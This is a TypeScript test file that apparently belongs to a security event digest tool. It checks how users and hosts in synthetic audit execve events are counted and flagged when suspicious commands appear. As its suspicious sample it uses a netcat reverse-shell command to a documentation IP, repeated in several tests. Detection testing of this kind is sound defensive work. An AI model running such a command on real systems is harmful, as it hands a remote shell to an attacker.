import { expect, test } from "vitest";
import { createActors } from "../../../src/digest/count/actors.ts";
import { matchBehaviours } from "../../../src/digest/behaviours/table.ts";
import { rolesOf } from "../../../src/digest/count/counts.ts";
import { createDescriber } from "../../../src/digest/describe/create-describer.ts";
import type { EventRecord } from "../../../src/event-fields/event-record.ts";

function countsOf(events: readonly EventRecord[]) {
  const sight = createDescriber(matchBehaviours);
  const actors = createActors();
  for (const event of events) actors.add(event, sight(event));
  return rolesOf(actors);
}

const start = (user: string, hostname: string, command: string) => ({
  event_type: "audit",
  syscall: "execve",
  exe: `/usr/bin/${command.split(" ")[0] ?? ""}`,
  arguments: command,
  user,
  hostname,
});

const routine = Array.from({ length: 50 }, () => start("app", "web-1.example.com", "df -h"));
const shell = start("www-data", "web-2", "nc -e /bin/sh 203.0.113.9 4444");

test("what suspicious events are about is told with how often it comes in all", () => {
  const { users } = countsOf([...routine, shell, start("www-data", "web-2", "id")]);

  expect(users.top[0]).toEqual({ value: "app", count: 50 });
  expect(users.telling).toEqual([{ value: "www-data", count: 2 }]);
});

test("whoever is suspicious now and then comes after whoever is nothing else", () => {
  const busy = [...routine, start("app", "web-1.example.com", "nc -e /bin/sh 203.0.113.9 4444")];
  const { users } = countsOf([...busy, shell]);

  expect(users.telling.map(({ value }) => value)).toEqual(["www-data", "app"]);
});

test("nothing is telling where nothing is suspicious", () => {
  expect(countsOf(routine).users.telling).toEqual([]);
});

test("a host is counted under one of its names", () => {
  const { hosts } = countsOf([...routine, start("app", "WEB-1", "nc -e /bin/sh 203.0.113.9 4444")]);

  expect(hosts).toMatchObject({ distinct: 1, isExact: true });
  expect(hosts.top).toEqual([{ value: "web-1.example.com", count: 51 }]);
  expect(hosts.telling).toEqual([{ value: "web-1.example.com", count: 51 }]);
});
